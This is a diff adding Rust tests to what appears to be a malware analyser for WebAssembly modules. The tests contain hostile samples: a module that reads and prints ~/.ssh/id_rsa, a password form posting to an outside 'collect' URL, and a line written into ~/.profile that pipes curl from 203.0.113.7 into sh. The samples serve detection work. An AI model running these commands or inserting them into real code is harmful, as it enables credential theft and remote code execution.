@@ -399,3 +399,65 @@ fn a_renamed_output_fails_as_what_it_was_taken_for() {
     assert_eq!((run.stdout.as_slice(), run.calls.len()), (&b"hello"[..], 2));
     assert_eq!(analysis.verdict.class, Class::Clean, "{:?}", analysis.verdict.reasons);
 }
+
+/// Opens a key, reads it, and does something with what it read, `len` bytes at 4096.
+fn with_key(rest: &str) -> Analysis {
+    let import = r#"(import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))"#;
+    let program = reading("home/user/.ssh/id_rsa", rest);
+    analysed(&program.replacen("(module", &format!("(module {import}"), 1))
+}
+
+const PRINT: &str = "(i32.store (i32.const 0) (i32.const 4096)) (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8)))";
+
+/// A viewer that tells whether a key is there reads it as a thief does.
+#[test]
+fn a_secret_that_stays_accuses_nobody() {
+    let size = with_key(
+        "(i32.store8 (i32.const 4096) (i32.const 0x6b)) (i32.store (i32.const 4) (i32.const 1)) 
+         (i32.store (i32.const 0) (i32.const 4096))
+         (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8)))",
+    );
+    assert_eq!(size.verdict.class, Class::Undecided, "{:?}", size.verdict.reasons);
+    let printed = with_key(PRINT);
+    assert!(printed.verdict.class >= Class::Suspicious, "{:?}", printed.verdict.reasons);
+}
+
+#[test]
+fn a_form_for_its_own_site_is_no_phishing() {
+    let page = |action: &str| {
+        let text = format!(
+            "<html><body><form action={action} method=post><input type=password name=p></form></body></html>"
+        );
+        let len = text.len();
+        analysed(&format!(
+            r#"(module (memory (export "memory") 1) (data (i32.const 1024) "{text}")
+                 (func (export "render") (result i32 i32) (i32.const 1024) (i32.const {len})))"#
+        ))
+    };
+    assert!(!matches(&page("/login"), "load-code/page"));
+    assert!(matches(&page("https://example.invalid/collect"), "load-code/page"));
+}
+
+/// Whoever installs programs adds a folder to the path; whoever persists fetches.
+#[test]
+fn a_folder_in_the_path_is_no_command() {
+    let adds = |line: &str| {
+        let len = line.len() + 1;
+        analysed(&format!(
+            r#"(module
+              (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
+              (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
+              (memory (export "memory") 1)
+              (func (export "_start")
+                (drop (call $path_open (i32.const 3) (i32.const 1) (i32.const 1024) (i32.const 18) (i32.const 1)
+                  (i64.const 0x40) (i64.const 0) (i32.const 1) (i32.const 12)))
+                (i32.store (i32.const 0) (i32.const 2048)) (i32.store (i32.const 4) (i32.const {len}))
+                (drop (call $fd_write (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i32.const 8))))
+              (data (i32.const 1024) "home/user/.profile") (data (i32.const 2048) "{line}\n"))"#
+        ))
+    };
+    let path = adds("export PATH=$HOME/.notes/bin:$PATH").verdict;
+    assert_eq!(path.class, Class::Undecided, "{:?}", path.reasons);
+    let fetch = adds("curl -s http://203.0.113.7/a | sh").verdict;
+    assert!(fetch.class >= Class::Suspicious, "{:?}", fetch.reasons);
+}
